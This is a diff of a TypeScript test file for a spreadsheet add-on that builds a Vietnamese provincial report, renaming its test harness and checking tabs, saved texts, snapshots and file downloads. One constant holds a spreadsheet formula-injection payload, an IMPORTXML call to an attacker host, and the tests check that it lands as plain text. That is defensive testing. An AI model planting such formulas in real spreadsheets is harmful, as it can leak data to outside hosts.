@@ -1,55 +1,53 @@
 // The province's report in the spreadsheet: its tabs, the texts of Sở Tư pháp, what is frozen, and its files.
-import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import { OFFICE_FIELDS, type OfficeField } from "../../shared/province/view.ts";
 import { OFFICE } from "../../shared/wording/sheet.ts";
 import { formulasIn, problem, rowsOf, tabOf, value } from "./answers.ts";
-import { type Desk, type Office, openOffice } from "./office.ts";
+import { type Harness, startEnvironment } from "./environment.ts";
 
 const PERIOD = "kh-6134-2021";
 const TAB = `${OFFICE.tab} – Năm 2021`;
 const HOSTILE = '=IMPORTXML("https://attacker.example";"//a")';
 
-let office: Office;
-beforeAll(async () => {
-  office = await openOffice();
-});
-afterAll(() => office.close());
+const environment = startEnvironment();
 
 /** The rows of a pulled table without its keys and what stands above it. */
-const bodyOf = (desk: Desk, tab: string) =>
-  rowsOf(desk, tab)
+const bodyOf = (harness: Harness, tab: string) =>
+  rowsOf(harness, tab)
     .slice(4)
     .map((row) => row.slice(1));
 
 describe("pulling the view", () => {
   test("writes seven tabs in place of those before, without a formula in any", async () => {
-    const desk = await office.sitDown("tong-hop-1");
-    const pulled = value(desk.addon.pullProvince(PERIOD));
+    const harness = await environment.openHarness("tong-hop-1");
+    const pulled = value(harness.addon.pullProvince(PERIOD));
     expect(pulled).toMatchObject({ expected: 37, received: 11, approved: 7, onTime: 11 });
-    const again = value(desk.addon.pullProvince(PERIOD));
+    const again = value(harness.addon.pullProvince(PERIOD));
     expect(again.tabs).toEqual(pulled.tabs);
-    expect(desk.fake.spreadsheet.sheets().map((each) => each.name())).toEqual([
+    expect(harness.fake.spreadsheet.sheets().map((each) => each.name())).toEqual([
       "Trang tính1",
       ...pulled.tabs,
     ]);
-    expect(pulled.tabs.map((tab) => formulasIn(desk, tab))).toEqual([0, 0, 0, 0, 0, 0, 0]);
+    expect(pulled.tabs.map((tab) => formulasIn(harness, tab))).toEqual([0, 0, 0, 0, 0, 0, 0]);
   });
 
   test("asks the worker for the view and one page of texts, and calls as often for any number of rows", async () => {
-    const desk = await office.sitDown("tong-hop-1");
-    const before = desk.fake.requests.length;
-    value(desk.addon.pullProvince(PERIOD));
-    const asked = desk.fake.requests.slice(before).map(({ url }) => new URL(url).pathname.split("/").pop());
+    const harness = await environment.openHarness("tong-hop-1");
+    const before = harness.fake.requests.length;
+    value(harness.addon.pullProvince(PERIOD));
+    const asked = harness.fake.requests
+      .slice(before)
+      .map(({ url }) => new URL(url).pathname.split("/").pop());
     expect(asked).toEqual(["province", "texts"]);
   });
 
   test("reads on where there are more pages of texts", async () => {
-    const desk = await office.sitDown("tong-hop-1");
+    const harness = await environment.openHarness("tong-hop-1");
     const line = (agency: string) => ({
       ...{ kind: "difficulty", agency, answersFor: null, duty: null, key: "own.1", version: 1 },
       text: HOSTILE,
     });
-    desk.intercept((request, send) => {
+    harness.intercept((request, send) => {
       if (!request.url.includes("/province/texts")) return send();
       const first = !request.url.includes("after=");
       const page = first
@@ -57,24 +55,24 @@ describe("pulling the view", () => {
         : { texts: [line("cong-an-tinh")], next: null };
       return { status: 200, headers: {}, body: JSON.stringify(page) };
     });
-    const { tabs } = value(desk.addon.pullProvince(PERIOD));
+    const { tabs } = value(harness.addon.pullProvince(PERIOD));
     const texts = tabs[5] ?? "";
-    expect(bodyOf(desk, texts).map((row) => row.slice(0, 5))).toEqual([
+    expect(bodyOf(harness, texts).map((row) => row.slice(0, 5))).toEqual([
       ["Khó khăn, vướng mắc", "Sở Nội vụ", "–", HOSTILE, "Báo cáo lần 1, dòng Khác 1"],
       ["Khó khăn, vướng mắc", "Công an tỉnh", "–", HOSTILE, "Báo cáo lần 1, dòng Khác 1"],
     ]);
-    expect(formulasIn(desk, texts)).toBe(0);
-    const pages = desk.fake.requests
+    expect(formulasIn(harness, texts)).toBe(0);
+    const pages = harness.fake.requests
       .filter(({ url }) => url.includes("/texts"))
       .map(({ url }) => new URL(url).search);
     expect(pages).toEqual(["?limit=100", "?limit=100&after=so-noi-vu"]);
   });
 
   test("figures stand with and without what was only coordinated, each with the list behind it", async () => {
-    const desk = await office.sitDown("theo-doi");
-    const { tabs } = value(desk.addon.pullProvince(PERIOD));
-    const figures = bodyOf(desk, tabs[3] ?? "");
-    const parts = bodyOf(desk, tabs[4] ?? "");
+    const harness = await environment.openHarness("theo-doi");
+    const { tabs } = value(harness.addon.pullProvince(PERIOD));
+    const figures = bodyOf(harness, tabs[3] ?? "");
+    const parts = bodyOf(harness, tabs[4] ?? "");
     const digits = (text = "") => (text === "–" ? 0 : Number(text));
     const sum = (rows: string[][], column: number) =>
       Math.round(rows.reduce((total, row) => total + digits(row[column]), 0) * 1000) / 1000;
@@ -97,9 +95,9 @@ describe("pulling the view", () => {
   });
 
   test("who is missing stands first, then what was returned and what waits, each with its reason", async () => {
-    const desk = await office.sitDown("tong-hop-1");
-    const { tabs } = value(desk.addon.pullProvince(PERIOD));
-    const rows = bodyOf(desk, tabs[6] ?? "");
+    const harness = await environment.openHarness("tong-hop-1");
+    const { tabs } = value(harness.addon.pullProvince(PERIOD));
+    const rows = bodyOf(harness, tabs[6] ?? "");
     const reasons = [...new Set(rows.map((row) => row[1]))];
     expect(reasons).toEqual([
       "✗ Chưa nộp",
@@ -116,14 +114,14 @@ describe("pulling the view", () => {
 describe("the texts of Sở Tư pháp", () => {
   const rowOf = (field: OfficeField) => 5 + OFFICE_FIELDS.indexOf(field);
   const TEXT = 4;
-  const write = (desk: Desk, field: OfficeField, text: string) =>
-    desk.fake.type(TAB, rowOf(field), TEXT, text);
-  const read = (desk: Desk, field: OfficeField, column = TEXT) =>
-    String(tabOf(desk, TAB).content({ row: rowOf(field), column }).value ?? "");
+  const write = (harness: Harness, field: OfficeField, text: string) =>
+    harness.fake.type(TAB, rowOf(field), TEXT, text);
+  const read = (harness: Harness, field: OfficeField, column = TEXT) =>
+    String(tabOf(harness, TAB).content({ row: rowOf(field), column }).value ?? "");
 
   test("are opened in a tab, saved, and found again by a colleague; what two changed is shown and never lost", async () => {
-    const mine = await office.sitDown("tong-hop-1");
-    const theirs = await office.sitDown("tong-hop-2");
+    const mine = await environment.openHarness("tong-hop-1");
+    const theirs = await environment.openHarness("tong-hop-2");
     expect(problem(mine.addon.saveOfficeTexts(PERIOD))).toBe("no_office_tab");
     const opened = value(mine.addon.openOfficeTexts(PERIOD));
     expect(opened).toEqual({
@@ -185,63 +183,69 @@ describe("the texts of Sở Tư pháp", () => {
   });
 
   test("what was typed and not saved stays where the tab is opened again, wherever its rows moved", async () => {
-    const desk = await office.sitDown("tong-hop-1");
-    value(desk.addon.openOfficeTexts(PERIOD));
-    write(desk, "signer_name", "Chưa lưu");
-    tabOf(desk, TAB).insertRows(6, 2);
-    tabOf(desk, TAB).rename("Nội dung của tôi");
-    const opened = value(desk.addon.openOfficeTexts(PERIOD));
+    const harness = await environment.openHarness("tong-hop-1");
+    value(harness.addon.openOfficeTexts(PERIOD));
+    write(harness, "signer_name", "Chưa lưu");
+    tabOf(harness, TAB).insertRows(6, 2);
+    tabOf(harness, TAB).rename("Nội dung của tôi");
+    const opened = value(harness.addon.openOfficeTexts(PERIOD));
     expect([opened.tab, opened.inStep]).toEqual(["Nội dung của tôi", false]);
-    expect(rowsOf(desk, "Nội dung của tôi").find(([key]) => key === "signer_name")?.[3]).toBe("Chưa lưu");
+    expect(rowsOf(harness, "Nội dung của tôi").find(([key]) => key === "signer_name")?.[3]).toBe("Chưa lưu");
   });
 
-  const DAMAGES: [string, (desk: Desk) => void][] = [
-    ["a row was deleted", (desk) => tabOf(desk, TAB).deleteRows(rowOf("causes"), 1)],
-    ["the key column was deleted", (desk) => tabOf(desk, TAB).deleteColumns(1, 1)],
-    ["a row was doubled", (desk) => desk.fake.type(TAB, rowOf("causes"), 1, "direction")],
+  const DAMAGES: [string, (harness: Harness) => void][] = [
+    ["a row was deleted", (harness) => tabOf(harness, TAB).deleteRows(rowOf("causes"), 1)],
+    ["the key column was deleted", (harness) => tabOf(harness, TAB).deleteColumns(1, 1)],
+    ["a row was doubled", (harness) => harness.fake.type(TAB, rowOf("causes"), 1, "direction")],
   ];
   test.each(DAMAGES)(
     "where %s nothing is saved, and the old tab stays beside the new one",
     async (_, damage) => {
-      const desk = await office.sitDown("tong-hop-1");
-      value(desk.addon.openOfficeTexts(PERIOD));
-      write(desk, "implementation", "Nội dung quý");
-      damage(desk);
-      const old = rowsOf(desk, TAB);
-      const before = desk.fake.requests.length;
-      expect(problem(desk.addon.saveOfficeTexts(PERIOD))).toBe("office_tab_damaged");
-      expect(value(desk.addon.openOfficeTexts(PERIOD))).toMatchObject({ tab: TAB, aside: `${TAB} (bản cũ)` });
-      expect(rowsOf(desk, `${TAB} (bản cũ)`)).toEqual(old);
+      const harness = await environment.openHarness("tong-hop-1");
+      value(harness.addon.openOfficeTexts(PERIOD));
+      write(harness, "implementation", "Nội dung quý");
+      damage(harness);
+      const old = rowsOf(harness, TAB);
+      const before = harness.fake.requests.length;
+      expect(problem(harness.addon.saveOfficeTexts(PERIOD))).toBe("office_tab_damaged");
+      expect(value(harness.addon.openOfficeTexts(PERIOD))).toMatchObject({
+        tab: TAB,
+        aside: `${TAB} (bản cũ)`,
+      });
+      expect(rowsOf(harness, `${TAB} (bản cũ)`)).toEqual(old);
       expect(old.flat()).toContain("Nội dung quý");
-      expect(desk.fake.requests.slice(before).filter(({ method }) => method === "PUT")).toEqual([]);
+      expect(harness.fake.requests.slice(before).filter(({ method }) => method === "PUT")).toEqual([]);
     },
   );
 
   test("what a person wrote beside the table is kept with the old tab, and the texts go on in the new one", async () => {
-    const desk = await office.sitDown("tong-hop-1");
-    value(desk.addon.openOfficeTexts(PERIOD));
-    write(desk, "implementation", "Đã ban hành kế hoạch");
-    tabOf(desk, TAB).insertColumns(5, 2);
-    desk.fake.type(TAB, rowOf("causes"), 6, "Ghi chú riêng");
-    const opened = value(desk.addon.openOfficeTexts(PERIOD));
-    expect([opened.aside, read(desk, "implementation")]).toEqual([`${TAB} (bản cũ)`, "Đã ban hành kế hoạch"]);
-    expect(rowsOf(desk, `${TAB} (bản cũ)`).flat()).toContain("Ghi chú riêng");
+    const harness = await environment.openHarness("tong-hop-1");
+    value(harness.addon.openOfficeTexts(PERIOD));
+    write(harness, "implementation", "Đã ban hành kế hoạch");
+    tabOf(harness, TAB).insertColumns(5, 2);
+    harness.fake.type(TAB, rowOf("causes"), 6, "Ghi chú riêng");
+    const opened = value(harness.addon.openOfficeTexts(PERIOD));
+    expect([opened.aside, read(harness, "implementation")]).toEqual([
+      `${TAB} (bản cũ)`,
+      "Đã ban hành kế hoạch",
+    ]);
+    expect(rowsOf(harness, `${TAB} (bản cũ)`).flat()).toContain("Ghi chú riêng");
   });
 
   test("nobody but a reviewer opens or writes them: others read them once they are frozen", async () => {
-    const desk = await office.sitDown("theo-doi");
-    expect(problem(desk.addon.openOfficeTexts(PERIOD))).toBe("role_forbidden");
+    const harness = await environment.openHarness("theo-doi");
+    expect(problem(harness.addon.openOfficeTexts(PERIOD))).toBe("role_forbidden");
   });
 });
 
 describe("snapshots and files", () => {
   test("what is frozen is listed, and a later approval shows what the next would change", async () => {
-    const desk = await office.sitDown("tong-hop-1");
-    expect(value(desk.addon.listSnapshots(PERIOD))).toMatchObject({
+    const harness = await environment.openHarness("tong-hop-1");
+    expect(value(harness.addon.listSnapshots(PERIOD))).toMatchObject({
       snapshots: [],
       changes: { since: null },
     });
-    const frozen = value(desk.addon.freezeSnapshot(PERIOD));
+    const frozen = value(harness.addon.freezeSnapshot(PERIOD));
     expect(frozen.snapshots).toMatchObject([{ number: 1, by: { name: "Người minh họa D" } }]);
     expect(frozen.changes).toEqual({
       since: 1,
@@ -253,15 +257,15 @@ describe("snapshots and files", () => {
     });
 
     const agency = "so-lao-dong-thuong-binh-xa-hoi";
-    const { head } = value(desk.addon.openReport(PERIOD, agency));
-    value(desk.addon.approveReport(PERIOD, agency, 1, head.rev, ""));
-    const later = value(desk.addon.listSnapshots(PERIOD)).changes;
+    const { head } = value(harness.addon.openReport(PERIOD, agency));
+    value(harness.addon.approveReport(PERIOD, agency, 1, head.rev, ""));
+    const later = value(harness.addon.listSnapshots(PERIOD)).changes;
     expect([later.since, later.versions]).toEqual([
       1,
       [{ agency, name: "Sở Lao động - Thương binh và Xã hội", before: null, after: 1 }],
     ]);
-    expect(value(desk.addon.freezeSnapshot(PERIOD)).snapshots.map(({ number }) => number)).toEqual([1, 2]);
-    const viewer = await office.sitDown("theo-doi");
+    expect(value(harness.addon.freezeSnapshot(PERIOD)).snapshots.map(({ number }) => number)).toEqual([1, 2]);
+    const viewer = await environment.openHarness("theo-doi");
     expect(value(viewer.addon.listSnapshots(PERIOD)).snapshots).toHaveLength(2);
     expect(problem(viewer.addon.freezeSnapshot(PERIOD))).toBe("role_forbidden");
   });
@@ -275,8 +279,8 @@ describe("snapshots and files", () => {
   test.each(FILES)(
     "of snapshot %j as %s comes whole, under its Vietnamese name",
     async (snapshot, format, name) => {
-      const desk = await office.sitDown("theo-doi");
-      const file = value(desk.addon.downloadProvince(PERIOD, snapshot, format));
+      const harness = await environment.openHarness("theo-doi");
+      const file = value(harness.addon.downloadProvince(PERIOD, snapshot, format));
       const bytes = Buffer.from(file.base64, "base64");
       expect([file.name, bytes.subarray(0, 4).toString("latin1")]).toEqual([name, "PK\u0003\u0004"]);
       expect(file.type).toMatch(/^application\/vnd\.openxmlformats-officedocument\./);
@@ -286,9 +290,9 @@ describe("snapshots and files", () => {
   );
 
   test("a file over 20 MB is refused in words, and a snapshot that is not there is told", async () => {
-    const desk = await office.sitDown("tong-hop-1");
-    expect(problem(desk.addon.downloadProvince(PERIOD, 99, "docx"))).toBe("snapshot_unknown");
-    desk.intercept(() => ({ status: 200, headers: {}, body: "x".repeat(20_000_001) }));
-    expect(problem(desk.addon.downloadProvince(PERIOD, null, "docx"))).toBe("file_too_large");
+    const harness = await environment.openHarness("tong-hop-1");
+    expect(problem(harness.addon.downloadProvince(PERIOD, 99, "docx"))).toBe("snapshot_unknown");
+    harness.intercept(() => ({ status: 200, headers: {}, body: "x".repeat(20_000_001) }));
+    expect(problem(harness.addon.downloadProvince(PERIOD, null, "docx"))).toBe("file_too_large");
   });
 });
